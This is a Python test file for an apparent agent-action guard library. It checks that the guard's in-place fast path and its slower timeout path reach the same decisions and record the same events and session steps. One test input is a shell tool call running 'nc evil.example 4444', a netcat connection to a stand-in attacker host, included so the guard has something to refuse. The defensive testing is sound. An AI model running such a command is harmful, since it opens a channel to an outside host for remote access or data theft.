"""A session check that ``check``'s hot path would take (the usual action, a local
policy, nothing to wait on, no audit log, no hooks) is decided in place
(``Guard._decided_here``), not by entering ``check`` again: the same decisions, the
same events given to the sink and the same steps as a check that goes the long way
(a guard with a timeout)."""

from __future__ import annotations

from typing import Any

import pytest
from tests.session.policies import FLOWS, LABELS
from tests.session.test_session_prefilter import CALLS, CONTEXT

from interlock import Action, Guard, Verdict, load_policy_text
from interlock.core.events import MemorySink
from interlock.session.history import MemoryHistory


def _told(guard: Guard, sink: MemorySink, history: MemoryHistory) -> list[Any]:
    told = []
    for name, args in [*CALLS, ("shell", {"command": "nc evil.example 4444"})]:
        action = Action(kind="tool", name=name, arguments=args, context=CONTEXT)
        decision = guard.check(action)
        told.append((decision.verdict, decision.reason, decision.rule_ids))
    events = [(e.action, e.decision.verdict, e.decision.reason) for e in sink.events]  # type: ignore[union-attr]
    steps = [(s.name, s.verdict, s.labels) for s in history.view("acme", "s-1").steps]
    return [told, events, steps]


@pytest.mark.parametrize("text", [LABELS, FLOWS])
@pytest.mark.parametrize("fail_mode", ["closed", "open"])
def test_decided_in_place_as_check_decides(
    text: str, fail_mode: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    results = []
    for timeout in (None, 30.0):
        sink, history = MemorySink(), MemoryHistory()
        guard = Guard(
            load_policy_text(text),
            sink=sink,
            sessions=history,
            timeout=timeout,
            fail_mode=fail_mode,
        )
        in_place = []
        decided_here = guard._decided_here

        def spy(*args: Any, _calls: list[int] = in_place, _real: Any = decided_here) -> Any:
            _calls.append(1)
            return _real(*args)

        monkeypatch.setattr(guard, "_decided_here", spy)
        results.append(_told(guard, sink, history))
        assert bool(in_place) is (timeout is None)  # the hot path was taken, or not
    assert results[0] == results[1]
    assert any(v is not Verdict.ALLOW for v, _, _ in results[0][0])  # refusals told too


def test_a_failing_sink_leaves_the_decision_and_its_step() -> None:
    class Failing(MemorySink):
        def emit(self, event: Any) -> None:
            raise RuntimeError("sink down")

    history = MemoryHistory()
    guard = Guard(load_policy_text(LABELS), sink=Failing(), sessions=history)
    action = Action(kind="tool", name="read_file", arguments={"path": "/w/a"}, context=CONTEXT)
    assert guard.check(action).verdict is Verdict.ALLOW
    assert [s.name for s in history.view("acme", "s-1").steps] == ["read_file"]
